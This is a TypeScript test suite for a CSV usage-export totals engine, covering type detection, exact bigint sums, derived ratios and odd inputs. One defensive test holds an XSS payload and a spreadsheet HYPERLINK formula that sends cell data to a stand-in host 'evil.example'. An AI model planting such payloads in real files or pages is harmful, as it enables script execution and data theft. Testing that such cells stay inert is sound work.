import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parseCsv } from '../../src/core/table/csvTable';
import { formatUnits } from '../../src/shared/decimal';
import { DERIVED_KEYS } from '../../src/core/table/derived';
import { buildUsageTable, loadUsageTable } from '../../src/core/table/totals';
import { detectExportType } from '../../src/core/table/tablePlan';
import type { UsageTable } from '../../src/shared/tableModel';
import { Rng } from '../sandbox/random';
import { fixture } from './fixtures';
import { cell } from './totalsCells';

async function load(name: string, hints = {}): Promise<UsageTable> {
  return (await loadUsageTable(fixture(name), hints)).table;
}

/**
 * The independent reference: split each line of a fixture without quotes on commas, pad every number to 12
 * decimals by string surgery and sum with bigint, per entity (joined entity columns) and overall.
 */
function naiveSums(name: string, entityCols: readonly string[], column: string) {
  const [headerLine, ...lines] = readFileSync(fixture(name), 'utf8')
    .replace(/^\ufeff/, '')
    .split(/\r?\n/)
    .filter((l) => l !== '');
  const headers = headerLine.split(',');
  const at = (h: string) => headers.indexOf(h);
  const perEntity = new Map<string, bigint | null>();
  let grand: bigint | null = null;
  for (const line of lines) {
    const cells = line.split(',');
    const key = entityCols.map((h) => cells[at(h)]).join('/');
    const text = cells[at(column)] ?? '';
    if (!perEntity.has(key)) perEntity.set(key, null);
    if (text === '') continue;
    const [whole, fraction = ''] = text.split('.');
    const units = BigInt(whole + fraction.padEnd(12, '0'));
    perEntity.set(key, (perEntity.get(key) ?? 0n) + units);
    grand = (grand ?? 0n) + units;
  }
  const show = (v: bigint | null) => (v === null ? null : formatUnits(v, 12));
  return { perEntity: new Map([...perEntity].map(([k, v]) => [k, show(v)])), grand: show(grand) };
}

const MODEL_SUMS = [
  'requests',
  'sum_prompt_tokens',
  'sum_completion_tokens',
  'sum_cached_prompt_tokens',
  'sum_cache_creation_tokens',
  'no_cache_tokens',
  'total_cost_usd',
];

describe('totals', () => {
  describe('detectExportType', () => {
    const cases: [string, string][] = [
      ['models-managed.csv', 'models'],
      ['models-byok.csv', 'models'],
      ['models-byok-by-source.csv', 'models'],
      ['models-byok-by-deployment.csv', 'models'],
      ['models-old.csv', 'models'],
      ['users.csv', 'users'],
      ['users-by-model.csv', 'users'],
      ['agents.csv', 'agents'],
      ['agents-by-model.csv', 'agents'],
      ['api-keys.csv', 'api-keys'],
      ['api-keys-by-model.csv', 'api-keys'],
      ['projects.csv', 'projects'],
      ['odd-hostile.csv', 'projects'],
      ['unknown.csv', 'unknown'],
    ];
    for (const [file, type] of cases) {
      it(`${file} → ${type}`, async () => {
        const t = await parseCsv(readFileSync(fixture(file)));
        assert.equal(detectExportType(t.headers), type);
        assert.equal((await load(file)).exportType, type);
      });
    }

    it('is unknown for an empty header and for unrelated columns', () => {
      assert.equal(detectExportType([]), 'unknown');
      assert.equal(detectExportType(['name', 'city']), 'unknown');
    });
  });

  describe('models', () => {
    for (const file of [
      'models-byok.csv',
      'models-byok-by-source.csv',
      'models-byok-by-deployment.csv',
      'models-managed.csv',
      'models-old.csv',
    ]) {
      it(`${file}: every per-model and grand total equals an independent bigint sum`, async () => {
        const table = await load(file);
        const hasProvider = table.columns.some((c) => c.key === 'provider');
        const entity = hasProvider ? ['name', 'provider'] : ['name'];
        let checked = 0;
        for (const column of MODEL_SUMS.filter((k) => table.columns.some((c) => c.key === k))) {
          const ref = naiveSums(file, entity, column);
          assert.equal(cell(table, 'total', column), ref.grand, `${column} total`);
          for (const row of table.totals.rows) {
            const key = entity.map((h) => cell(table, row, h)).join('/');
            assert.equal(cell(table, row, column), ref.perEntity.get(key), `${column} of ${key}`);
            checked++;
          }
        }
        assert.ok(checked >= table.totals.rows.length);
      });
    }

    it('merges BYOK and non-BYOK rows of one model into one row with both parts as children', async () => {
      const t = await load('models-byok.csv');
      assert.equal(t.totals.entity, 'models');
      assert.deepEqual(
        t.totals.rows.map((r) => r.cells[0]),
        ['gpt-4.1', 'claude-sonnet-4', 'gpt-4.1-mini', 'gemini-2.5-flash', 'mistral-large', 'o3', 'llama-3.3-70b'],
      );
      const gpt = t.totals.rows[0];
      assert.equal(gpt.rowCount, 2);
      assert.equal(cell(t, gpt, 'requests'), '1750');
      assert.equal(cell(t, gpt, 'bring_your_keys'), null, 'mixed BYOK is not one value');
      assert.equal(cell(t, gpt, 'total_cost_usd'), '12.5912', 'cost is the BYOK part only');
      assert.equal(gpt.children?.length, 2);
      const [byok, managed] = gpt.children;
      assert.equal(cell(t, byok, 'bring_your_keys'), 'true');
      assert.equal(cell(t, byok, 'requests'), '1520');
      assert.equal(cell(t, managed, 'bring_your_keys'), 'false');
      assert.equal(cell(t, managed, 'requests'), '230');
      assert.equal(cell(t, managed, 'total_cost_usd'), null, 'non-BYOK cost is n/a, never 0');
      assert.equal(cell(t, managed, 'sum_prompt_tokens'), null);
      assert.notEqual(byok.key, managed.key);
      assert.equal(t.totals.rows[2].children, undefined, 'a model with one part has no children');
    });

    it('grouped by source: one row per model with a child per source (and BYOK part), totals equal to the ungrouped export', async () => {
      const flat = await load('models-byok.csv');
      for (const file of ['models-byok-by-source.csv', 'models-byok-by-deployment.csv']) {
        const grouped = await load(file);
        assert.deepEqual(
          grouped.totals.rows.map((r) => r.cells[0]),
          flat.totals.rows.map((r) => r.cells[0]),
          file,
        );
        for (const key of [...MODEL_SUMS, DERIVED_KEYS.share, DERIVED_KEYS.costPer1k, DERIVED_KEYS.cacheHitShare]) {
          for (const row of flat.totals.rows) {
            assert.equal(cell(grouped, row.cells[0]!, key), cell(flat, row, key), `${file} ${key} ${row.cells[0]}`);
          }
          assert.equal(cell(grouped, 'total', key), cell(flat, 'total', key), `${file} ${key} total`);
        }
      }
      const bySource = await load('models-byok-by-source.csv', { type: 'models', groupBy: 'source' });
      const gpt = bySource.totals.rows[0];
      assert.deepEqual(
        gpt.children!.map((c) => [
          cell(bySource, c, 'source'),
          cell(bySource, c, 'bring_your_keys'),
          cell(bySource, c, 'requests'),
        ]),
        [
          ['WEB', 'true', '634'],
          ['MOBILE', 'true', '506'],
          ['API', 'true', '380'],
          ['WEB', 'false', '97'],
          ['MOBILE', 'false', '76'],
          ['API', 'false', '57'],
        ],
      );
      assert.equal(cell(bySource, gpt, 'source'), null);
      assert.equal(cell(bySource, 'mistral-large', 'source'), 'WEB', 'a single part shows its value on the row');
      // children add up to their parent
      for (const row of bySource.totals.rows.filter((r) => r.children)) {
        const sum = row.children!.reduce((s, c) => s + BigInt(cell(bySource, c, 'requests')!), 0n);
        assert.equal(cell(bySource, row, 'requests'), sum.toString());
        assert.equal(
          row.children!.reduce((s, c) => s + c.rowCount, 0),
          row.rowCount,
        );
      }
    });

    it('derives share of requests, cost per 1k requests and cache hit share (hand-computed)', async () => {
      const t = await load('models-byok.csv');
      const share = t.totals.columns.find((c) => c.key === DERIVED_KEYS.share)!;
      assert.equal(share.format, 'percent');
      assert.equal(share.label, 'Share of requests');
      // 1750 / 7272 = 0.24064906...
      assert.equal(cell(t, 'gpt-4.1', DERIVED_KEYS.share), '0.240649');
      // 12.5912 × 1000 / 1750 = 7.19497142...
      assert.equal(cell(t, 'gpt-4.1', DERIVED_KEYS.costPer1k), '7.194971');
      // 1210000 / 3046000 = 0.39724228...
      assert.equal(cell(t, 'gpt-4.1', DERIVED_KEYS.cacheHitShare), '0.397242');
      assert.equal(cell(t, 'mistral-large', DERIVED_KEYS.cacheHitShare), '0');
      assert.equal(cell(t, 'o3', DERIVED_KEYS.cacheHitShare), null, 'no cache data is n/a, not 0');
      assert.equal(cell(t, 'gemini-2.5-flash', DERIVED_KEYS.costPer1k), null, 'no cost is n/a');
      assert.equal(cell(t, 'llama-3.3-70b', DERIVED_KEYS.costPer1k), null, 'zero requests: no ratio');
      assert.equal(cell(t, 'llama-3.3-70b', DERIVED_KEYS.share), '0');
      assert.equal(cell(t, 'total', DERIVED_KEYS.share), '1');
      // 33.4019 × 1000 / 7272 = 4.59322057...
      assert.equal(cell(t, 'total', DERIVED_KEYS.costPer1k), '4.593221');
      assert.deepEqual(t.totals.columns.find((c) => c.key === DERIVED_KEYS.costPer1k)!.derived, {
        numerator: 'total_cost_usd',
        denominator: 'requests',
        per: 1000,
        ofGrandTotal: false,
      });
    });

    it('has no cost column, and no cost or cache ratios, when the data has no cost (managed, old exports)', async () => {
      for (const file of ['models-managed.csv', 'models-old.csv']) {
        const t = await load(file);
        const keys = t.totals.columns.map((c) => c.key);
        assert.ok(!keys.includes('total_cost_usd'), file);
        assert.ok(!keys.includes(DERIVED_KEYS.costPer1k), file);
        assert.ok(!keys.includes(DERIVED_KEYS.cacheHitShare), file);
        assert.ok(keys.includes(DERIVED_KEYS.share), file);
      }
      const old = await load('models-old.csv');
      assert.equal(cell(old, 'gemini-1.5-pro', 'sum_prompt_tokens'), null, 'empty cells are n/a');
      assert.equal(cell(old, 'total', 'sum_prompt_tokens'), '18510000', 'the total ignores the empty cells');
    });

    it('keeps exact sums beyond 2^53 and of 0.1 + 0.2', async () => {
      const t = await load('odd-big-numbers.csv');
      assert.equal(cell(t, 'gpt-4.1', 'sum_prompt_tokens'), (9007199254740993n * 2n).toString());
      assert.equal(cell(t, 'gpt-4.1', 'sum_completion_tokens'), '9007199254740993');
      assert.equal(cell(t, 'gpt-4.1', 'total_cost_usd'), '0.3');
      assert.equal(cell(t, 'o3', 'sum_prompt_tokens'), '123456789012345678901234567891');
      assert.equal(cell(t, 'o3', 'total_cost_usd'), '0.000016', '0.000001 + 1.5e-5');
      assert.equal(
        cell(t, 'total', 'sum_prompt_tokens'),
        (123456789012345678901234567891n + 18014398509481986n).toString(),
      );
      assert.equal(cell(t, 'total', 'total_cost_usd'), '0.300016');
    });
  });

  describe('other export types', () => {
    it('users: one row per user, messages summed, ranks and JSON maps kept per user, n/a stays n/a', async () => {
      const t = await load('users.csv');
      assert.equal(t.totals.entity, 'users');
      assert.deepEqual(
        t.totals.columns.slice(0, 2).map((c) => c.key),
        ['name', 'user_id'],
      );
      assert.equal(cell(t, 'total', 'messages_total'), '1023'); // 412 + 305 + 198 + 77 + 31 + 0
      assert.equal(cell(t, 'total', 'action_messages'), '54'); // 37 + 0 + 12 + 5 + (empty) + 0
      assert.equal(cell(t, 'total', 'messages_total_rank'), null, 'ranks are never summed');
      assert.equal(cell(t, 'total', 'assistants_messaged'), '3', 'distinct counts take the max');
      assert.equal(cell(t, 'Anna Müller', 'assistants_to_messages'), '{"asst_7a1":80,"asst_2c9":30,"asst_d04":10}');
      assert.equal(cell(t, "Jonas O'Brien", 'department'), 'R&D, Europe');
      const anonymous = t.totals.rows.find((r) => r.key === 'u-0005')!;
      assert.equal(cell(t, anonymous, 'name'), null);
      assert.equal(cell(t, anonymous, 'action_messages'), null);
      assert.equal(cell(t, 'Anna Müller', DERIVED_KEYS.share), '0.402737'); // 412 / 1023
      const label = t.totals.columns.find((c) => c.key === DERIVED_KEYS.share)!.label;
      assert.equal(label, 'Share of messages');
      assert.ok(
        !t.totals.columns.some((c) => c.key === 'period_start' || c.key === 'org_id'),
        'file-wide columns stay in All rows',
      );
    });

    it('users grouped by model: children per model, cost where present', async () => {
      const t = await load('users-by-model.csv', { type: 'users', groupBy: 'model' });
      const anna = t.totals.rows.find((r) => r.key === 'u-0001')!;
      assert.deepEqual(
        anna.children!.map((c) => cell(t, c, 'model')),
        ['gpt-4.1', 'claude-sonnet-4'],
      );
      assert.equal(cell(t, anna, 'messages_total'), '412');
      assert.equal(cell(t, anna, 'total_cost_usd'), '3.995');
      assert.equal(cell(t, anna, 'email'), 'anna.mueller@example.com', 'agreeing attributes survive the merge');
      const chloe = t.totals.rows.find((r) => r.key === 'u-0003')!;
      assert.equal(cell(t, chloe, 'total_cost_usd'), '2.25', 'the empty cost of one model is ignored');
      assert.equal(cell(t, chloe.children![1], 'total_cost_usd'), null);
      assert.equal(cell(t, 'total', 'total_cost_usd'), '7.169'); // 2.42 + 1.575 + 0.384 + 2.25 + 0.54
    });

    it('agents grouped by model: sums, plain means, min of mins and max of maxes', async () => {
      const t = await load('agents-by-model.csv');
      assert.equal(t.totals.entity, 'agents');
      const reviewer = t.totals.rows[0];
      assert.equal(cell(t, reviewer, 'assistant_name'), 'Contract "Reviewer"');
      assert.equal(cell(t, reviewer, 'messages'), '251');
      assert.equal(cell(t, reviewer, 'unique_users'), '11', 'max, not 15');
      assert.equal(cell(t, reviewer, 'messages_per_user'), '17.486111'); // (22.222222 + 12.75) / 2
      assert.equal(cell(t, reviewer, 'min_prompt_tokens'), '320');
      assert.equal(cell(t, reviewer, 'max_prompt_tokens'), '21000');
      assert.equal(cell(t, reviewer, 'avg_prompt_tokens'), '5000');
      assert.equal(cell(t, 'SQL Helper', 'min_completion_tokens'), '300');
      assert.equal(cell(t, 'SQL Helper', 'max_completion_tokens'), '3900');
      assert.equal(cell(t, 'total', 'min_prompt_tokens'), '150');
      assert.equal(cell(t, 'total', 'max_prompt_tokens'), '21000');
      assert.equal(cell(t, 'total', 'avg_completion_tokens'), '1100'); // (1000 + 1000 + 500 + 1500 + 1500) / 5
      assert.equal(cell(t, 'total', 'messages'), '358');
    });

    it('agents without BYOK data: token columns n/a, friendly labels for assistant_* columns', async () => {
      const t = await load('agents.csv');
      assert.equal(cell(t, 'HR Policies, Q&A', 'sum_prompt_tokens'), null);
      assert.equal(cell(t, 'HR Policies, Q&A', 'min_prompt_tokens'), null);
      assert.equal(cell(t, 'total', 'sum_prompt_tokens'), '1582000');
      const label = (k: string) => t.columns.find((c) => c.key === k)!.label;
      assert.equal(label('assistant_name'), 'Agent');
      assert.equal(label('assistant_owner_email'), 'Owner');
    });

    it('api keys (plain and by model): requests and cost, cache hit share from cached_prompt_tokens', async () => {
      const t = await load('api-keys.csv');
      assert.equal(t.totals.entity, 'api-keys');
      assert.equal(cell(t, 'total', 'requests'), '6518');
      assert.equal(cell(t, 'total', 'total_cost_usd'), '22.27552'); // 3.2184 + 18.90512 + 0.152 + 0
      assert.equal(cell(t, 'Support bot', DERIVED_KEYS.cacheHitShare), '0.395062'); // 3200000 / 8100000
      assert.equal(cell(t, 'Zapier', DERIVED_KEYS.costPer1k), null);
      const byModel = await load('api-keys-by-model.csv');
      assert.equal(cell(byModel, 'CI, staging "blue"', 'requests'), '1200');
      assert.equal(
        cell(byModel, 'CI, staging "blue"', 'sum_completion_tokens'),
        '200000',
        'the embedding part has none',
      );
      assert.equal(byModel.totals.rows[0].children!.length, 2);
      assert.equal(cell(byModel, 'total', 'total_cost_usd'), '20.02162');
    });

    it('projects: messages per project', async () => {
      const t = await load('projects.csv');
      assert.equal(t.totals.entity, 'projects');
      assert.equal(cell(t, 'Q3 Planning, EMEA', 'messages'), '92');
      assert.equal(cell(t, 'total', 'messages'), '125');
      assert.equal(cell(t, 'Board Deck', DERIVED_KEYS.share), '0');
    });
  });

  describe('unknown and odd CSVs', () => {
    it('an unknown CSV is a generic table: entity = first text column, numeric columns summed, labels from the header', async () => {
      const t = await load('unknown.csv');
      assert.equal(t.exportType, 'unknown');
      assert.equal(t.totals.entity, 'unknown');
      assert.deepEqual(
        t.totals.columns.map((c) => c.key),
        ['date', 'tickets', 'hours', 'team', 'region'],
      );
      assert.equal(cell(t, '2026-10-01', 'tickets'), '15');
      assert.equal(cell(t, '2026-10-01', 'hours'), '30.5', 'the empty hours cell is ignored');
      assert.equal(cell(t, 'total', 'hours'), '61.875');
      assert.equal(cell(t, '2026-10-01', 'team'), null, 'teams differ within the date');
      assert.equal(t.columns.find((c) => c.key === 'tickets')!.label, 'Tickets');
      assert.equal(t.columns.find((c) => c.key === 'hours')!.format, 'decimal');
    });

    it('an all-numeric CSV keeps one totals row per CSV row', async () => {
      const t = buildUsageTable(await parseCsv('a,b\n1,2\n1,3\n'));
      assert.equal(t.totals.rows.length, 2);
      assert.deepEqual(t.totals.grandTotal, ['2', '5']);
    });

    it('keeps undocumented columns: numbers summed (or averaged by name), text shown when it agrees', async () => {
      const t = await load('odd-unknown-columns.csv');
      const col = (k: string) => t.columns.find((c) => c.key === k)!;
      assert.equal(col('sum_reasoning_tokens').label, 'Sum reasoning tokens');
      assert.equal(col('sum_reasoning_tokens').aggregate, 'sum');
      assert.equal(col('avg_latency_ms').aggregate, 'mean');
      assert.equal(col('error_rate').aggregate, 'none');
      assert.equal(col('raw_model').label, 'Raw model');
      assert.equal(cell(t, 'o3', 'sum_reasoning_tokens'), '65000');
      assert.equal(cell(t, 'gpt-4.1', 'sum_reasoning_tokens'), null);
      assert.equal(cell(t, 'o3', 'avg_latency_ms'), '4050.125');
      assert.equal(cell(t, 'o3', 'raw_model'), null, 'two raw models');
      assert.equal(cell(t, 'o3', 'notes'), '{"tier":"high"}');
      assert.equal(cell(t, 'total', 'sum_reasoning_tokens'), '65000');
      assert.ok(!t.totals.columns.some((c) => c.key === 'error_rate' && c.aggregate !== 'none'));
    });

    it('ragged rows count as far as they go and are reported', async () => {
      const t = await load('odd-ragged.csv');
      assert.equal(t.rowCount, 5);
      assert.equal(cell(t, 'total', 'requests'), '110');
      assert.equal(cell(t, 'gpt-4.1-mini', 'requests'), null);
      assert.equal(t.warnings.length, 2);
    });

    it('a header-only file gives the columns, no rows and an n/a grand total', async () => {
      const t = await load('odd-header-only.csv');
      assert.equal(t.rowCount, 0);
      assert.deepEqual(t.totals.rows, []);
      assert.ok(t.totals.grandTotal.every((c) => c === null));
      assert.ok(!t.totals.columns.some((c) => c.derived), 'no data, no ratios');
    });

    it('an empty file gives an empty table', async () => {
      const t = buildUsageTable(await parseCsv(''));
      assert.deepEqual(t.columns, []);
      assert.deepEqual(t.totals.rows, []);
      assert.equal(t.exportType, 'unknown');
    });

    it('hostile cells pass through as text, and headers like __proto__ are ordinary columns', async () => {
      const t = await load('odd-hostile.csv');
      assert.equal(t.totals.rows[0].cells[0], '<img src=x onerror=alert(1)>');
      assert.equal(t.totals.rows[2].cells[0], '=HYPERLINK("https://evil.example/?q="&A1,"Click")');
      const proto = buildUsageTable(await parseCsv('__proto__,constructor,toString\nx,1,2\n'));
      assert.deepEqual(
        proto.columns.map((c) => c.label),
        ['Proto', 'Constructor', 'To string'],
      );
      assert.deepEqual(proto.totals.grandTotal, [null, '1', '2']);
    });

    it('warns about non-numbers in a documented numeric column without echoing them', async () => {
      const t = buildUsageTable(await parseCsv('name,provider,requests\na,p,5\na,p,<b>n/a</b>\nb,p,x\n'));
      assert.equal(cell(t, 'a', 'requests'), '5');
      assert.equal(cell(t, 'b', 'requests'), null);
      assert.deepEqual(t.warnings, [
        '2 cells of column 3 (Requests) are not numbers; they were left out of the totals.',
      ]);
    });

    it('trusts the type hint over the header', async () => {
      const t = await load('odd-unknown-columns.csv', { type: 'models', groupBy: 'source' });
      assert.equal(t.exportType, 'models');
      const users = buildUsageTable(await parseCsv('name,score\nx,1\n'), { type: 'users' });
      assert.equal(users.exportType, 'users');
      assert.equal(users.totals.rows[0].cells[0], 'x', 'no user_id: the entity name identifies the row');
    });
  });

  describe('shape of the result', () => {
    it('aligns every row, child and the grand total with the totals columns; raw rows with the file columns', async () => {
      for (const file of [
        'models-byok-by-source.csv',
        'users.csv',
        'agents-by-model.csv',
        'unknown.csv',
        'odd-ragged.csv',
      ]) {
        const { table, rows } = await loadUsageTable(fixture(file));
        const width = table.totals.columns.length;
        const all = table.totals.rows.flatMap((r) => [r, ...(r.children ?? [])]);
        assert.ok(
          all.every((r) => r.cells.length === width),
          file,
        );
        assert.equal(table.totals.grandTotal.length, width, file);
        assert.equal(rows.total, table.rowCount, file);
        assert.ok(
          (await rows.page(0, rows.total)).every((r) => r.length === table.columns.length),
          file,
        );
        assert.equal(
          table.totals.rows.reduce((s, r) => s + r.rowCount, 0),
          table.rowCount,
          file,
        );
        const entityWidth = table.totals.columns.findIndex((c) => c.aggregate !== 'none');
        assert.ok(
          table.totals.grandTotal.slice(0, entityWidth).every((c) => c === null),
          file,
        );
        assert.deepEqual(JSON.parse(JSON.stringify(table)), table, 'plain data that survives postMessage');
      }
    });

    it('streams to the same table as parsing first (loadUsageTable = buildUsageTable ∘ parseCsv)', async () => {
      for (const file of ['models-byok-by-deployment.csv', 'users-by-model.csv', 'unknown.csv', 'odd-quoted.csv']) {
        const streamed = await loadUsageTable(fixture(file));
        const parsed = await parseCsv(readFileSync(fixture(file)));
        assert.deepEqual(streamed.table, buildUsageTable(parsed), file);
        assert.deepEqual(await streamed.rows.page(0, streamed.rows.total), parsed.rows, file);
      }
    });

    it('uses friendly labels from the facts', async () => {
      const t = await load('models-byok.csv');
      const label = (k: string) => t.columns.find((c) => c.key === k)!.label;
      assert.equal(label('requests'), 'Requests');
      assert.equal(label('sum_prompt_tokens'), 'Input tokens');
      assert.equal(label('total_cost_usd'), 'Cost (USD)');
      assert.equal(t.columns.find((c) => c.key === 'total_cost_usd')!.format, 'usd');
    });

    it('rejects with the abort reason when the signal fires', async () => {
      const controller = new AbortController();
      controller.abort();
      await assert.rejects(loadUsageTable(fixture('users.csv'), {}, { signal: controller.signal }), {
        name: 'AbortError',
      });
    });
  });

  it('random numeric tables: totals equal an independent bigint sum (property)', async () => {
    const rng = new Rng(7);
    for (let round = 0; round < 40; round++) {
      const entities = ['alpha', 'beta', 'gamma', 'delta'].slice(0, 1 + rng.int(0, 3));
      const lines = ['name,provider,requests,sum_prompt_tokens,total_cost_usd,extra_metric'];
      const expected = new Map<string, bigint[]>();
      const grand = [0n, 0n, 0n, 0n];
      const rows = rng.int(0, 60);
      for (let i = 0; i < rows; i++) {
        const name = entities[rng.int(0, entities.length - 1)];
        // integers, tokens beyond 2^53, micro-dollar costs, and empties
        const values = [
          BigInt(rng.int(0, 5000)),
          BigInt(rng.int(0, 2 ** 31)) * BigInt(rng.int(0, 2 ** 31)),
          BigInt(rng.int(0, 99_999_999)),
          BigInt(rng.int(-500, 500)),
        ];
        const empty = rng.int(0, 9) === 0;
        const texts = [
          values[0].toString(),
          values[1].toString(),
          empty ? '' : formatUnits(values[2], 6),
          values[3].toString(),
        ];
        lines.push(`${name},p,${texts.join(',')}`);
        const acc = expected.get(name) ?? [0n, 0n, 0n, 0n];
        values.forEach((v, j) => {
          if (j === 2 && empty) return;
          acc[j] += v;
          grand[j] += v;
        });
        expected.set(name, acc);
      }
      const t = buildUsageTable(await parseCsv(lines.join('\n') + '\n'));
      const keys = ['requests', 'sum_prompt_tokens', 'total_cost_usd', 'extra_metric'];
      const scales = [0, 0, 6, 0];
      for (const row of t.totals.rows) {
        const acc = expected.get(row.cells[0]!)!;
        keys.forEach((k, j) =>
          assert.equal(cell(t, row, k), formatUnits(acc[j], scales[j]), `${k} of ${row.cells[0]}`),
        );
      }
      if (rows > 0)
        keys.forEach((k, j) => assert.equal(cell(t, 'total', k), formatUnits(grand[j], scales[j]), `${k} total`));
      assert.equal(t.totals.rows.length, expected.size);
    }
  });
});
